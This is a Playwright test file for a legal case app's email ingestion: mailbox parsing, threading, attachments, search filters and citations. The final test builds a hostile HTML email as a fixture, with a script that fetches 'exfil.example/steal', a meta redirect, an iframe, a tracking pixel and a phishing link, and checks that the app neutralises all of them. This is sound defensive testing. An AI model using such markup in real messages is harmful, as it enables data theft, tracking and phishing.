import { expect, test, type Page } from '@playwright/test';
import { makeDocx, makeEml, makeMbox, makeMsg } from '../../src/lib/ingest/email/testing.ts';
import { makePdf } from '../../src/lib/ingest/testing/make-pdf.ts';
import { CasePage, Library } from './pages.ts';

/** Drops files onto the case's Documents region, as a person dragging them from the desktop. */
async function drop(page: Page, files: { name: string; type: string; bytes: Uint8Array }[]) {
	const data = await page.evaluateHandle(
		(list) => {
			const transfer = new DataTransfer();
			for (const f of list) transfer.items.add(new File([new Uint8Array(f.bytes)], f.name, { type: f.type }));
			return transfer;
		},
		files.map((f) => ({ name: f.name, type: f.type, bytes: [...f.bytes] }))
	);
	const documents = page.getByRole('region', { name: 'Documents' });
	await documents.dispatchEvent('dragover', { dataTransfer: data });
	await documents.dispatchEvent('drop', { dataTransfer: data });
}

function mailbox(): Uint8Array {
	const exhibit = makePdf({ pages: 1, lines: () => ['Exhibit A: the signed warehouse lease.'] });
	const draft = makeDocx(['Settlement draft', 'The defendant pays forty thousand.']);
	const messages = [
		makeEml({
			from: 'Ann Smith <ann@smith.example>',
			to: 'Bob Jones <bob@jones.example>',
			subject: 'Settlement',
			date: 'Sun, 3 Mar 2024 10:00:00 +0000',
			messageId: 'm1@smith.example',
			text: 'Bob,\n\nOur offer and the exhibit are attached.',
			attachments: [
				{ name: 'exhibit-a.pdf', mimeType: 'application/pdf', bytes: exhibit },
				{ name: 'draft.docx', mimeType: 'application/octet-stream', bytes: draft }
			]
		}),
		makeEml({
			from: 'Bob Jones <bob@jones.example>',
			to: 'Ann Smith <ann@smith.example>',
			subject: 'Re: Settlement',
			date: 'Mon, 4 Mar 2024 11:00:00 +0000',
			messageId: 'm2@jones.example',
			inReplyTo: 'm1@smith.example',
			references: '<m1@smith.example>',
			text: 'Ann,\n\nWe accept the exhibit as sent.',
			attachments: [{ name: 'exhibit-a.pdf', mimeType: 'application/pdf', bytes: exhibit }]
		}),
		makeEml({
			from: 'Cy Young <cy@young.example>',
			to: 'Ann Smith <ann@smith.example>',
			subject: 'Lunch',
			date: 'Fri, 15 Mar 2024 12:00:00 +0000',
			messageId: 'lunch@young.example',
			text: 'Lunch on Friday to accept the flowers?'
		})
	];
	return new TextEncoder().encode(makeMbox(messages));
}

test.describe('email in a case', () => {
	test('a dropped mailbox becomes messages, threads and attachments; search by sender and date; a citation opens at its paragraph', async ({
		page
	}) => {
		test.setTimeout(120_000);
		const library = new Library(page);
		await library.open();
		await library.createCase('Mail case');
		await new CasePage(page).tab('Documents').click();
		const memo = makeMsg({
			subject: 'Memo',
			senderName: 'Cy Young',
			senderEmail: 'cy@young.example',
			recipients: [{ name: 'Ann Smith', email: 'ann@smith.example', kind: 'to' }],
			body: 'An Outlook memo on the lease.'
		});
		await drop(page, [
			{ name: 'client.mbox', type: 'application/mbox', bytes: mailbox() },
			{ name: 'memo.msg', type: 'application/vnd.ms-outlook', bytes: memo }
		]);

		const rows = page.getByRole('list', { name: 'Documents in this case' });
		const row = (name: string) => rows.getByRole('listitem', { name, exact: true });
		await expect(row('client.mbox')).toContainText('3 messages', { timeout: 60_000 });
		await expect(row('client 1.eml')).toContainText('Indexed', { timeout: 60_000 });
		await expect(row('client 1.eml')).toContainText('Settlement');
		await expect(row('client 1.eml')).toContainText('Thread of 2');
		await expect(row('client 1.eml')).toContainText('2 attachments');
		await expect(row('client 2.eml')).toContainText('Thread of 2');
		await expect(row('client 3.eml')).not.toContainText('Thread of');
		await expect(row('exhibit-a.pdf')).toContainText('Indexed', { timeout: 60_000 });
		await expect(row('draft.docx')).toContainText('Indexed', { timeout: 60_000 });
		// Carried by two messages, stored once.
		await expect(rows.getByRole('listitem', { name: 'exhibit-a.pdf' })).toHaveCount(1);
		await expect(row('memo.msg')).toContainText('Indexed');
		await expect(row('memo.msg')).toContainText('Cy Young');
		await expect(rows.getByRole('listitem')).toHaveCount(7);

		await new CasePage(page).tab('Search').click();
		const box = page.getByRole('searchbox', { name: 'Search this case' });
		const results = page.getByRole('list', { name: 'Results' });
		await box.fill('accept from:bob');
		await box.press('Enter');
		await expect(results.getByRole('listitem').first()).toContainText('Email, Bob Jones to Ann Smith, 4 Mar 2024');
		await expect(results).not.toContainText('Lunch');

		await box.fill('accept');
		await box.press('Enter');
		await expect(results).toContainText('Lunch');
		await page.getByLabel('Sent from').fill('2024-03-01');
		await page.getByLabel('Sent to').fill('2024-03-10');
		await page.getByLabel('Sent to').press('Tab');
		await expect(results).not.toContainText('Lunch');
		const cited = results.getByRole('link').filter({ hasText: '¶ 2' }).first();
		await expect(cited).toContainText('Email, Bob Jones to Ann Smith, 4 Mar 2024');
		await cited.click();

		const message = page.getByRole('article', { name: 'Message' });
		await expect(message.getByRole('heading', { name: 'Re: Settlement' })).toBeVisible();
		await expect(message.getByLabel('Citation')).toHaveText('Email, Bob Jones to Ann Smith, 4 Mar 2024, ¶ 2');
		const paragraph = message.getByLabel('Paragraph 2');
		// The cited passage is shaded, the matched word marked within it.
		await expect(paragraph.locator('mark')).toHaveText(['We', 'accept', 'the exhibit as sent.']);
		await expect(paragraph.locator('mark.match')).toHaveText('accept');
		await expect(message.getByLabel('Header block')).toContainText('From: Bob Jones <bob@jones.example>');
		await expect(message.getByRole('list', { name: 'Thread' }).getByRole('listitem')).toHaveCount(2);
		await message.getByRole('list', { name: 'Attachments' }).getByRole('link', { name: 'exhibit-a.pdf' }).click();
		await expect(page.getByRole('region', { name: 'Page 1' })).toContainText('Exhibit A', { timeout: 30_000 });
	});

	/** A case with the mailbox dropped and every document indexed; returns the Documents list's rows. */
	async function mailCase(page: Page, title: string) {
		const library = new Library(page);
		await library.open();
		await library.createCase(title);
		await new CasePage(page).tab('Documents').click();
		await drop(page, [{ name: 'client.mbox', type: 'application/mbox', bytes: mailbox() }]);
		const rows = page.getByRole('list', { name: 'Documents in this case' });
		const row = (name: string) => rows.getByRole('listitem', { name, exact: true });
		for (const name of ['client 1.eml', 'client 2.eml', 'client 3.eml', 'exhibit-a.pdf', 'draft.docx'])
			await expect(row(name)).toContainText('Indexed', { timeout: 60_000 });
		return { rows, row };
	}

	test('removing a message removes the attachment only it carries, from search at once; a shared one stays', async ({
		page
	}) => {
		test.setTimeout(120_000);
		const { row } = await mailCase(page, 'Remove mail');
		const casePage = new CasePage(page);
		await casePage.tab('Search').click();
		const box = page.getByRole('searchbox', { name: 'Search this case' });
		const results = page.getByRole('list', { name: 'Results' });
		const status = page.getByRole('status').filter({ hasText: /passage/ });
		// "forty" is only in the draft, which only the first message carries.
		await box.fill('forty');
		await box.press('Enter');
		await expect(results.getByRole('listitem').first()).toContainText('draft.docx');

		await casePage.tab('Documents').click();
		await row('client 1.eml').getByRole('button', { name: 'Remove document' }).click();
		const dialog = page.getByRole('dialog', { name: 'Remove document' });
		await expect(dialog).toContainText('Its attachments go with it');
		await dialog.getByRole('button', { name: 'Remove' }).click();
		await expect(dialog).toBeHidden();
		await expect(row('client 1.eml')).toHaveCount(0);
		await expect(row('draft.docx')).toHaveCount(0);
		// The exhibit, which the second message carries too, stays.
		await expect(row('exhibit-a.pdf')).toHaveCount(1);

		await casePage.tab('Search').click();
		await box.fill('forty');
		await box.press('Enter');
		await expect(status).toHaveText('No passages match.');
		await box.fill('warehouse');
		await box.press('Enter');
		await expect(results.getByRole('listitem').first()).toContainText('exhibit-a.pdf');
	});

	test('the message filters are kept in the URL: a reload and Back restore them and their results', async ({
		page
	}) => {
		test.setTimeout(120_000);
		await mailCase(page, 'Filter mail');
		await new CasePage(page).tab('Search').click();
		const box = page.getByRole('searchbox', { name: 'Search this case' });
		const results = page.getByRole('list', { name: 'Results' });
		await box.fill('accept');
		await box.press('Enter');
		await expect(results).toContainText('Lunch');
		await page.getByLabel('Sender').fill('bob@jones.example');
		await page.getByLabel('Sender').press('Tab');
		await expect(results).not.toContainText('Lunch');
		await expect(results.getByRole('listitem').first()).toContainText('Email, Bob Jones to Ann Smith, 4 Mar 2024');
		await page.getByLabel('Has attachment').check();
		await expect(page).toHaveURL(/att=1/);

		await page.reload();
		await expect(page.getByLabel('Sender')).toHaveValue('bob@jones.example');
		await expect(page.getByLabel('Has attachment')).toBeChecked();
		await expect(results.getByRole('listitem').first()).toContainText('Email, Bob Jones to Ann Smith, 4 Mar 2024', {
			timeout: 30_000
		});
		await expect(results).not.toContainText('Lunch');

		// Back twice: before "has attachment", then before the sender.
		await page.goBack();
		await expect(page.getByLabel('Has attachment')).not.toBeChecked();
		await expect(page.getByLabel('Sender')).toHaveValue('bob@jones.example');
		await page.goBack();
		await expect(page.getByLabel('Sender')).toHaveValue('');
		await expect(results).toContainText('Lunch');
	});

	test('a message without its stored page (as a teammate pulls it) is laid out in an extraction worker and shown', async ({
		page
	}) => {
		test.setTimeout(120_000);
		const { row } = await mailCase(page, 'Pulled mail');
		// A teammate's device holds the document and its original but never stored its page row.
		await page.evaluate(async () => {
			const db = await new Promise<IDBDatabase>((resolve, reject) => {
				const open = indexedDB.open('docket');
				open.onsuccess = () => resolve(open.result);
				open.onerror = () => reject(open.error ?? new Error('open failed'));
			});
			try {
				const docs = await new Promise<{ id: string; name: string }[]>((resolve, reject) => {
					const request = db.transaction('documents').objectStore('documents').getAll();
					request.onsuccess = () => resolve(request.result as { id: string; name: string }[]);
					request.onerror = () => reject(request.error ?? new Error('read failed'));
				});
				const id = docs.find((d) => d.name === 'client 2.eml')!.id;
				await new Promise<void>((resolve, reject) => {
					const tx = db.transaction('pages', 'readwrite');
					tx.objectStore('pages').delete([id, 1]);
					tx.oncomplete = () => resolve();
					tx.onerror = () => reject(tx.error ?? new Error('delete failed'));
				});
			} finally {
				db.close();
			}
		});
		await row('client 2.eml').getByRole('link', { name: 'Open client 2.eml' }).click();
		const message = page.getByRole('article', { name: 'Message' });
		await expect(message.getByLabel('Paragraph 2')).toContainText('We accept the exhibit as sent.', {
			timeout: 30_000
		});
		await expect(message.getByLabel('Header block')).toContainText('From: Bob Jones <bob@jones.example>');
		await expect(
			message.getByRole('list', { name: 'Attachments' }).getByRole('link', { name: 'exhibit-a.pdf' })
		).toBeVisible();
	});

	test('a hostile message runs no script and loads nothing: no frame, no remote image, no navigation', async ({
		page
	}) => {
		test.setTimeout(90_000);
		const requests: string[] = [];
		page.on('request', (r) => requests.push(r.url()));
		const library = new Library(page);
		await library.open();
		await library.createCase('Hostile mail');
		await new CasePage(page).tab('Documents').click();
		const html = [
			'<html><head><script>window.pwned = 1; fetch("https://exfil.example/steal")</script>',
			'<meta http-equiv="refresh" content="0;url=https://redirect.example/"></head>',
			'<body onload="window.pwned = 2"><p>Please wire the funds today.</p>',
			'<iframe src="https://frame.example/"></iframe>',
			'<img src="https://tracker.example/pixel.gif" width="1" height="1">',
			'<p><a href="https://phish.example/">Click here</a> to confirm.</p></body></html>'
		].join('');
		const eml = makeEml({
			from: 'Mallory <mallory@evil.example>',
			to: 'Ann Smith <ann@smith.example>',
			subject: 'Urgent wire',
			date: 'Wed, 6 Mar 2024 08:00:00 +0000',
			html
		});
		await drop(page, [{ name: 'urgent.eml', type: 'message/rfc822', bytes: new TextEncoder().encode(eml) }]);
		const rows = page.getByRole('list', { name: 'Documents in this case' });
		const row = rows.getByRole('listitem', { name: 'urgent.eml', exact: true });
		await expect(row).toContainText('Indexed', { timeout: 60_000 });
		await row.getByRole('link', { name: 'Open urgent.eml' }).click();
		const message = page.getByRole('article', { name: 'Message' });
		await expect(message.getByLabel('Paragraph 1')).toContainText('Please wire the funds today.');
		await expect(message).toContainText('Click here to confirm.');
		const url = page.url();
		await expect(message.locator('script, iframe, img, a[href*="example"], meta')).toHaveCount(0);
		expect(await page.evaluate(() => (window as unknown as { pwned?: number }).pwned)).toBeUndefined();
		expect(page.url()).toBe(url);
		expect(requests.filter((r) => /\.example\//.test(r))).toEqual([]);
	});
});
